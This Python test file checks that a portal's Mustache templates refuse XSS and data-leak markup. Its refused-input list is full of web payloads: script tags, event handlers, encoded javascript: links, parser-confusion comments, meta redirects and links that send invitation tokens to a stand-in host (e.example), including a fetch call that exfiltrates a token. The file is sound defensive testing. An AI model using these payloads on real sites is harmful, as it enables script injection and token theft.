"""What a layout or partial may hold as HTML: nothing that runs, loads or sends anything elsewhere, however it is written."""

import random
import re

import html5lib
import pytest
from portals import Portal
from test_check import faults

INVITATION = "Templates/layouts/invitation.mustache"
ARTICLE = "Templates/layouts/article.mustache"
PAGE = "Templates/layouts/page.mustache"
SCRIPT = "Templates/assets/invitation.js"

BY_GET = "what this button sends may stand in an address"

REFUSED = {
    # Scripts.
    "<script>fetch('//e.example/' + token)</script>": "a script can't stand in a template",
    "<ScRiPt\n>x</sCrIpT>": "a script can't stand in a template",
    "<script src=\"https://e.example/x.js\"></script>": "a script can't stand in a template",
    "<script src=\"/assets/site.js\"></script>": "a script can't stand in a template",
    "<script src=\"{{operator.website}}\"></script>": "a script can't stand in a template",
    "<script type=\"module\">x</script>": "a script can't stand in a template",
    "<script type=\"text/javascript\">x</script>": "a script can't stand in a template",
    "<svg><script>x</script></svg>": "a script can't stand in a template",
    "<script{{#byMail}} type=\"application/json\"{{/byMail}}>x</script>":
        "an attribute of `<script>` may be missing or be there twice",
    "<p onclick=\"x()\">a</p>": "the attribute `onclick` can't stand in a template",
    "<p ONCLICK=x>a</p>": "the attribute `onclick` can't stand in a template",
    "<img src=\"/assets/a.png\" alt=\"\"onerror=\"x\">": "the attribute `onerror` can't stand in a template",
    "<img src=\"/a.png\"/onerror=\"x\">": "the attribute `onerror` can't stand in a template",
    "<p onclick{{#byMail}} title{{/byMail}}=\"x\">a</p>": "the attribute `onclick` can't stand in a template",
    "<a href=\"javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"JavaScript&colon;x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"&#106;avascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\" javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"java\tscript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=javascript:x>a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"java{{#byMail}}x{{/byMail}}script:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"{{#byMail}}#{{/byMail}}javascript:x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<a href=\"data:text/html,x\">a</a>": "`href` of <a> doesn't begin as a link can",
    "<svg><a xlink:href=\"javascript:x\"><path/></a></svg>": "`xlink:href` of <a> doesn't begin as a link can",
    "<svg><animate attributeName=\"href\" values=\"javascript:x\"/></svg>": "`<animate>` can't stand in a template",
    # What loads, frames or turns links around.
    "<iframe src=\"/en/\"></iframe>": "`<iframe>` can't stand in a template",
    "<object data=\"/x\"></object>": "`<object>` can't stand in a template",
    "<embed src=\"/x\">": "`<embed>` can't stand in a template",
    "<base href=\"https://e.example/\">": "`<base>` can't stand in a template",
    "<style>@import 'https://e.example/x.css';</style>": "`<style>` can't stand in a template",
    "<svg><style>@import 'x';</style></svg>": "`<style>` can't stand in a template",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://e.example/\">": "a <meta> speaks for the web server",
    "<meta http-equiv=\"&#114;efresh\" content=\"0;url=https://e.example/\">": "a <meta> speaks for the web server",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">": "a <meta> speaks for the web server",
    "<meta name=\"referrer\" content=\"unsafe-url\">": "a <meta> tells others where a page lies",
    "<a href=\"https://e.example/\" referrerpolicy=\"unsafe-url\">a</a>":
        "`referrerpolicy` of <a> tells others where a page lies",
    "<link rel=\"stylesheet\" href=\"https://e.example/x.css\">": "a <link> loads something from elsewhere",
    "<link rel=\"stylesheet\" href=\"//e.example/x.css\">": "a <link> loads something from elsewhere",
    "<link rel=\"stylesheet\" href=\"/\\e.example/x.css\">": "a <link> loads something from elsewhere",
    "<link rel=\"import\" href=\"/x\">": "a <link> can't be of this kind",
    "<link rel=\"preload icon\" href=\"/x\">": "a <link> can't be of this kind",
    "<link rel=\"&#115;tylesheet\" href=\"/x\">": "a <link> can't be of this kind",
    "<img src=\"https://e.example/x.png\" alt=\"\">": "`src` of <img> loads something from elsewhere",
    "<video poster=\"//e.example/x.png\"></video>": "`poster` of <video> loads something from elsewhere",
    # Where forms go.
    "<form action=\"https://e.example/\"></form>": "`action` of <form> sends a form elsewhere",
    "<form action=\"//e.example/\"></form>": "`action` of <form> sends a form elsewhere",
    "<form action=\"{{operator.website}}\"></form>": "`action` of <form> sends a form elsewhere",
    "<form action=\"{{acceptTo}}@e.example\"></form>": "`action` of <form> sends a form elsewhere",
    "<button formaction=\"mailto:x@e.example\">a</button>": "`formaction` of <button> sends a form elsewhere",
    "<input type=\"image\" alt=\"\" src=\"/a.png\" formaction=\"//e.example\">": "`formaction` of <input> sends a form elsewhere",
    # Tokens in links.
    "<a href=\"https://e.example/?{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{portal.address}}#{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.trust}}?{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.trust}}{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.trust}}@e.example/#{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"mailto:x@e.example?body={{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.trust}}#{{typed.token}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.checklist}}#{{invitation.link}}\">a</a>": "`href` of <a> holds what only the invitee may know",
    "<a href=\"{{page.trust}}#{{invitation.link}}&amp;{{invitation.id}}\">a</a>":
        "`href` of <a> holds what only the invitee may know",
    "<img alt=\"\" src=\"{{page.trust}}#{{invitation.link}}\">": "`src` of <img> holds what only the invitee may know",
    # Tokens where something else than a link says them on: a preview's picture, a window's name, an address that is looked up.
    "<meta property=\"og:image\" content=\"https://e.example/{{typed.token}}\">":
        "`content` of <meta> holds what only the invitee may know",
    "<meta itemprop=\"url\" content=\"https://e.example/?{{invitation.link}}\">":
        "`content` of <meta> holds what only the invitee may know",
    "<a href=\"https://e.example/\" target=\"{{typed.token}}\">a</a>": "`target` of <a> holds what only the invitee may know",
    "<form method=\"post\" action=\"{{acceptTo}}\" target=\"{{typed.token}}\"></form>":
        "`target` of <form> holds what only the invitee may know",
    "<a href=\"https://e.example/\" attributionsrc=\"https://e.example/\">a</a>":
        "the attribute `attributionsrc` can't stand in a template",
    "<svg><path fill=\"url(//e.example/{{typed.token}})\"/></svg>": "`fill` of <path> holds what only the invitee may know",
    "<p itemscope itemid=\"https://e.example/{{typed.token}}\">a</p>": "`itemid` of <p> holds what only the invitee may know",
    "<img longdesc=\"//e.example/{{typed.token}}\" src=\"/a.png\" alt=\"\">":
        "`longdesc` of <img> holds what only the invitee may know",
    # Tokens in the address of a form, and so in logs.
    "<form action=\"{{acceptTo}}\"></form>": "a form that is sent puts what it holds into an address",
    "<form method=\"get\" action=\"{{acceptTo}}\"></form>": "a form that is sent puts what it holds into an address",
    "<form method=\"{{lang}}\" action=\"{{declineTo}}\"></form>": "a form that is sent puts what it holds into an address",
    "<button form=\"a\" formmethod=\"get\">a</button>": "`formmethod` of <button> puts what a form holds into an address",
    "<form {{#byMail}}method=\"post\"{{/byMail}} action=\"{{acceptTo}}\"></form>":
        "a form that is sent puts what it holds into an address",
    # Whichever form a button belongs to.
    "<form action=\"/en/\"><button formaction=\"{{acceptTo}}\">a</button></form>": BY_GET,
    "<form method=\"post\" action=\"/en/\"><button formaction=\"{{declineTo}}\">a</button></form>": BY_GET,
    "<form method=\"post\" action=\"{{acceptTo}}\"><button formaction=\"{{declineTo}}\">a</button></form>": BY_GET,
    "<button form=\"a\" formaction=\"{{acceptTo}}\">a</button><form id=\"a\" action=\"/en/\"></form>": BY_GET,
    "<button type=\"submit\" form=\"a\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<input type=\"submit\" formaction=\"{{acceptTo}}\">": BY_GET,
    "<input type=\"image\" alt=\"\" src=\"/a.png\" formaction=\"{{declineTo}}\">": BY_GET,
    "<input type=\"image\" alt=\"\" src=\"/a.png\" formaction=\"{{declineTo}}\" method=\"post\">": BY_GET,
    "<BUTTON FORMACTION='{{acceptTo}}'>a</BUTTON>": BY_GET,
    "<button formmethod formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"dialog\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"&#112;ost\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"post \" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"{{lang}}\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button formmethod=\"get\" formmethod=\"post\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button {{#byMail}}formmethod=\"post\"{{/byMail}} formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button {{#byMail}}formmethod=\"post\"{{/byMail}} {{^byMail}}formmethod=\"post\"{{/byMail}} formaction=\"{{acceptTo}}\">a</button>":
        BY_GET,
    "<button formmethod=\"{{#byMail}}post{{/byMail}}\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    "<button {{#byMail}}formaction=\"{{acceptTo}}\"{{/byMail}}>a</button>": BY_GET,
    "<button title=\"{{#byMail}}\" formmethod=\"post\" data-a=\"{{/byMail}}\" formaction=\"{{acceptTo}}\">a</button>": BY_GET,
    # What browsers read in another way than it looks, or where a section would make something of it.
    "<!--><script>x</script>-->": "a `>` stands in an HTML comment",
    "<!-- a --!><script>x</script> -->": "a `>` stands in an HTML comment",
    "</ a=\"><script>x</script>\">": "an end tag holds more than a name",
    "<title></titlex><a title=\"</title><script>x</script>\"></title>":
        "a `<` stands in <title>, where no element can",
    "<noscript><p title=\"</noscript><script>x</script>\">a</p></noscript>": "a `<` stands where no element can begin",
    "<svg><![CDATA[ > <a title=\" ]]> <script>x</script> \"></svg>": "a declaration stands here",
    "<p title = \"a\">a</p>": "there is a blank before `=`",
    "<{{#byMail}} {{/byMail}}script>x</script>": "`{{#byMail}}` stands where HTML can't be cut",
    "<scr{{#byMail}} x{{/byMail}}ipt>x</script>": "what a section prints in a tag isn't apart from what follows",
    "<scr{{#byMail}} x {{/byMail}}ipt>x</script>": "what a section prints in a tag isn't apart from what follows",
    "<p\n{{#byMail}}\non{{/byMail}} {{^byMail}}\nclick=\"x\"{{/byMail}}>":
        "a line ends behind a section's tag inside of an element's tag",
    "<p {{#byMail}}\non{{/byMail}}{{^byMail}}\nclick=\"x\"{{/byMail}}>": "a line ends behind a section's tag inside of an element's tag",
    "<script type=\"application/json\"><!--<script></script>": "a `<` stands in <script>, where no element can",
    "<xmp><a title=\"</xmp><p>\"></xmp>": "`<xmp>` can't stand in a template",
}


@pytest.mark.parametrize("html", REFUSED)
def test_what_runs_or_leads_elsewhere_is_a_fault(portal, html):
    """In the article of an invitation, where the token is."""
    line = portal.read(ARTICLE).count("\n") + 1
    portal.append(ARTICLE, html + "\n")
    found = [fault for fault in faults(portal) if fault.message == REFUSED[html]]
    assert found, faults(portal)
    assert {fault.file for fault in found} == {ARTICLE}
    assert all(line <= fault.line <= line + 2 for fault in found)


TOLD = "holds what only the invitee may know"


@pytest.mark.parametrize("link, isTold", [
    ("https://e.example/?{{receipt.link}}", True), ("https://e.example/?{{receipt.token}}", True),
    ("mailto:x@e.example?body={{receipt.link}}", True), ("{{page.trust}}#{{receipt.link}}", True),
    ("{{receipt.link}}/{{receipt.link}}", True), ("{{receipt.link}}@e.example", True),
    ("{{receipt.link}}", False), ("{{receipt.link}}?jws", False), ("{{receipt.link}}#code", False)])
def test_a_receipts_address_is_told_to_nobody_else(portal, link, isTold):
    portal.append("Templates/layouts/answer-article.mustache", f"<a href=\"{link}\">a</a>\n")
    if isTold:
        [fault] = faults(portal)
        assert TOLD in fault.message
    else:
        portal.run("check")


LINKS_IN_MARKDOWN = ["[a](https://e.example/?{{%s}})", "![a](/a.png?{{%s}})", "<https://e.example/{{%s}}>", "https://e.example/?{{%s}}",
                     "[a](https://e.example/?{{portal.email}}{{%s}})", "[a](mailto:x@e.example?body={{%s}})"]


@pytest.mark.parametrize("page, field", [
    ("invitations/reseller-invites-customer", "invitation.link"), ("answers/accepted", "receipt.link"),
    ("answers/accepted", "receipt.token")])
@pytest.mark.parametrize("link", LINKS_IN_MARKDOWN)
def test_links_in_markdown_tell_nobody_else(portal, page, field, link):
    for language in ("en", "ja"):
        portal.append(f"Content/{language}/{page}.md", f"\n{link % field}\n")
    found = faults(portal)
    assert {each.file for each in found if TOLD in each.message} == {f"Content/{each}/{page}.md" for each in ("en", "ja")}, found


def test_a_link_in_markdown_may_lead_to_the_receipt(portal):
    for language in ("en", "ja"):
        portal.append(f"Content/{language}/answers/accepted.md", "\n[a]({{receipt.link}}?jws) {{receipt.token}}\n")
    portal.run("check")


# What the pages after an answer hold themselves


@pytest.mark.parametrize("file", ["site.css", "letter.css", "answer.css", "receipt.js"])
@pytest.mark.parametrize("text", [
    "/* </style> */", "</STYLE\n>", "</style/>", "</script >", "<!--<script>", "x <", "x <\n\n", "</"])
def test_what_a_page_holds_cannot_end_early(portal, file, text):
    path = f"Templates/assets/{file}"
    line = portal.read(path).count("\n") + 1
    portal.append(path, text)
    [fault] = faults(portal)
    assert (fault.file, fault.line) == (path, line)
    assert fault.message == "the pages after an answer hold this file, and a browser may take this for its end"


def test_other_signs_are_fine_there(portal):
    portal.append("Templates/assets/answer.css", "@media (300px < width) { p { content: \"<\\/style>\" } }\n")
    portal.append("Templates/assets/receipt.js", "if (1 < 2) void \"<\\/script>\";\n")
    portal.append("Templates/assets/checklist.js", "void \"</b>\";\n")
    portal.run("check")


@pytest.mark.parametrize("file", [INVITATION, PAGE, "Templates/layouts/ended-article.mustache",
                                  "Templates/layouts/answer-article.mustache", "Templates/layouts/not-found.mustache",
                                  "Templates/partials/answer-form.mustache", "Templates/partials/mark.mustache"])
def test_in_every_layout_and_partial(portal, file):
    portal.append(file, "<script>x</script>\n")
    assert {fault.message for fault in faults(portal)} == {"a script can't stand in a template"}


def test_partials_that_only_pages_use_are_looked_at(portal):
    portal.append("Templates/partials/roles-table.mustache", "<p onclick=\"x\">a</p>\n")
    portal.write("Templates/partials/unused.mustache", "<p onclick=\"x\">a</p>\n")
    assert sorted(fault.file for fault in faults(portal) if "onclick" in fault.message) == [
        "Templates/partials/roles-table.mustache", "Templates/partials/unused.mustache"]


FINE = [
    "<p title=\"a > b\">a &lt; b > c</p>",
    "<!-- a comment -->",
    "<a href=\"https://www.northlight.example/a?b=c&amp;d\">a</a>",
    "<a href=\"/en/trust/\">a</a><a href=\"#in-en\">b</a><a href=\"trust/\">c</a><a href=\"trust\">d</a>",
    "<a href=\"mailto:{{portal.email}}?subject={{invitee.name}}\">a</a>",
    "<img src=\"/assets/a.png\" alt=\"\" width=10 height='10'>",
    "<link rel=\"stylesheet\" href=\"/assets/own.css\"><link rel=author href=\"https://e.example/\">",
    "<form action=\"/en/search/\"><button type=\"submit\" formaction=\"#\">a</button></form>",
    "<meta name=\"referrer\" content=\"no-referrer\">",
    "<svg viewBox=\"0 0 1 1\"><title>a</title><path d=\"M0 0\"/><use href=\"#a\"/></svg>",
    "<script type=\"application/json\">{\"a\": \"{{operator.name}}\"}</script>",
    "<input{{#byMail}} value=\"a\"{{/byMail}}{{^byMail}} value=\"b\"{{/byMail}} name=\"a\">",
    "<p {{#byMail}}class=\"a\"{{/byMail}}>a</p>",
    "<textarea>a &lt; b</textarea>",
    "<form method=POST action=\"{{acceptTo}}\"><button formmethod=\"post\" formaction=\"{{declineTo}}\">a</button></form>",
    "<form action=\"/en/\"><button formmethod=POST formaction=\"{{acceptTo}}\">a</button></form>",
    "<input type=\"submit\" form=\"a\" formaction=\"{{declineTo}}\" {{#byMail}}title=\"a\"{{/byMail}} formmethod=\"post\">",
    "<p title=\"{{typed.token}}\" data-code=\"{{typed.token}}\" aria-label=\"{{invitation.link}}\">a</p>",
]


@pytest.mark.parametrize("html", FINE)
def test_plain_html_is_fine(portal, html):
    portal.append(ARTICLE, html + "\n")
    portal.run("check")


@pytest.mark.parametrize("old, new", [
    ("<meta http-equiv=\"Content-Security-Policy\" content=\"{{head.policy}}\">\n", ""),
    ("<meta charset=\"utf-8\">", "<meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/assets/own.css\">"),
    ("{{^isAnswer}}\n<meta http-equiv", "{{#isAnswer}}\n<meta http-equiv"),
])
def test_an_invitation_says_first_what_it_loads(portal, old, new):
    """Else a style sheet could tell others the token, letter by letter."""
    text = portal.read(INVITATION)
    assert old in text
    portal.write(INVITATION, text.replace(old, new, 1))
    [fault] = faults(portal)
    assert fault.place == f"{INVITATION}:1:1"
    assert fault.message == "the page of an invitation doesn't say first of all what it may load"


# Which scripts run


def test_a_build_names_a_script_that_changed(built):
    message = (
        f"warning: {SCRIPT} has changed since the last build, and it runs on the page of each open invitation\n"
        "  Look through it before you deploy: it can read the code that an answer is given with.\n")
    assert message not in built.run("build").stderr
    built.append(SCRIPT, "// A comment isn't published.\n")
    assert built.run("build").stderr == ""
    built.append(SCRIPT, "void 0; // Somebody was here.\n")
    built.append("Templates/assets/checklist.js", "// It runs on no invitation.\n")
    assert built.run("build").stderr == message
    assert built.run("build").stderr == ""


@pytest.mark.parametrize("file, runs", [
    ("token-check.js", "where people check an invitation"), ("site.js", "where people check an invitation"),
    ("receipt.js", "on the page of each receipt")])
def test_a_build_names_what_reads_links_and_receipts(built, file, runs):
    path = f"Templates/assets/{file}"
    built.append(path, "void 0;\n")
    said = built.run("build").stderr
    assert said.startswith(f"warning: {path} has changed since the last build, and it runs {runs}\n") and said.count("\n") == 2
    assert built.run("build").stderr == ""


@pytest.mark.parametrize("file", ["invitation.js", "mail.js"])
def test_a_build_names_what_runs_where_answers_go_by_mail(built, file):
    """Both files are one script there."""
    built.replace("Content/portal.yaml", "verifier: https://accept.hoshino-cloud.example\n", "")
    built.run("build")
    built.append(f"Templates/assets/{file}", "void 0;\n")
    assert built.run("build").stderr.startswith(
        "warning: Templates/assets/invitation.js or Templates/assets/mail.js has changed since the last build, and it runs")
    scripts = [path.name for path in (built.public / "assets").glob("*.js")]
    assert not [name for name in scripts if name.startswith("invitation.")]


def test_a_script_that_runs_since_answers_go_another_way_is_told_as_that(built):
    built.replace("Content/portal.yaml", "verifier: https://accept.hoshino-cloud.example\n", "")
    said = built.run("build").stderr
    assert said.startswith("warning: answers go another way than at the last build, so Templates/assets/invitation.js or ")
    assert "has changed" not in said and built.run("build").stderr == ""


def test_what_else_comes_to_run_there_is_named(built):
    for language in ("en", "ja"):
        built.append(f"Content/{language}/trust.md", "\n{{> checklist}}\n")
    assert built.run("build").stderr == ""
    built.append("Templates/assets/checklist.js", "void 0;\n")
    assert "warning: Templates/assets/checklist.js has changed" in built.run("build").stderr


def test_a_first_build_names_none(portal):
    assert "has changed" not in portal.run("build").stderr


def test_an_invitation_loads_its_own_script_and_no_other(sample):
    for page in sample.invitation_pages():
        scripts = [line for line in page.read_text("utf-8").split("\n") if "<script" in line]
        assert len(scripts) <= 1 and all("/assets/invitation." in line for line in scripts)


# Whatever is taken, a browser reads as it was seen


PIECES = [
    "<", ">", "</", "/>", "<!--", "-->", "--!>", "<!", "<?", "<script", "</script>", "<title>", "</title>", "<textarea>",
    "</textarea>", "<p ", "<p>", "</p>", "<a href=", "<a ", "</a>", '"', "'", "=", " ", "/", "javascript:x", "onclick", "on",
    "click", "x", "<svg>", "</svg>", "<![CDATA[", "]]>", "<noscript>", "</noscript>", "{{#F}}", "{{^F}}", "{{/F}}", "{{! }}", "&#106;",
    "<template>", "</template>", "<style>", "</style>", "<math>", "<iframe ", "<base href=", "src=", "<form action=", "title=", "#", "/a",
    "https://e.example/", '"x"', "'x'", '="x"', '=">"', "<select>", "<table>", "<xmp>", "<scr", "ipt",
]
FIELD = "document.everyone"


def printed(template: str, flag: bool) -> str:
    """What such a template prints, without sections in sections."""
    text = template.replace("{{! }}", "")
    kept, dropped = ("#", "^") if flag else ("^", "#")
    text = re.sub(r"\{\{\%s%s\}\}(.*?)\{\{/%s\}\}" % (dropped, FIELD, FIELD), "", text, flags=re.DOTALL)
    return re.sub(r"\{\{\%s%s\}\}(.*?)\{\{/%s\}\}" % (kept, FIELD, FIELD), r"\1", text, flags=re.DOTALL)


def dangers(html: str, scripting: bool) -> list[str]:
    """What a browser would run or lead elsewhere."""
    found = []
    body = html5lib.parseFragment(html, namespaceHTMLElements=False, scripting=scripting)
    for element in body.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        if tag in ("script", "style", "iframe", "base", "xmp"):
            found.append(tag)
        for name, value in element.attrib.items():
            if name.startswith("on") or value.strip().startswith("javascript:"):
                found.append(f"{name}={value}")
            if name == "action" and value.startswith(("https:", "//")):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("seed", range(3))
def test_what_is_taken_is_harmless_in_a_browser(portal, seed):
    """Thousands of partials made of pieces; each that no page names is looked at on its own."""
    chance = random.Random(seed)
    partials = {}
    for number in range(3_000):
        text = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 9))).replace("F}}", FIELD + "}}")
        # Half of them with a section that is whole.
        if chance.random() < 0.5 and "{{" not in text:
            cuts = sorted(chance.randint(0, len(text)) for _ in range(2))
            text = (f"{text[:cuts[0]]}{{{{{chance.choice('#^')}{FIELD}}}}}{text[cuts[0]:cuts[1]]}"
                    f"{{{{/{FIELD}}}}}{text[cuts[1]:]}")
        partials[f"Templates/partials/any{number}.mustache"] = text
    for name, text in partials.items():
        portal.write(name, text)
    outcome = portal.run("check", expect=65)
    refused = set(re.findall(r"^(\S+?):\d+:\d+: error", outcome.stderr, re.MULTILINE))
    taken = {name: text for name, text in partials.items() if name not in refused}
    for text in taken.values():
        for flag in (False, True):
            for scripting in (False, True):
                assert not dangers(printed(text, flag), scripting), text
    assert len(taken) > 100 and len([text for text in partials.values() if dangers(printed(text, True), True)]) > 100
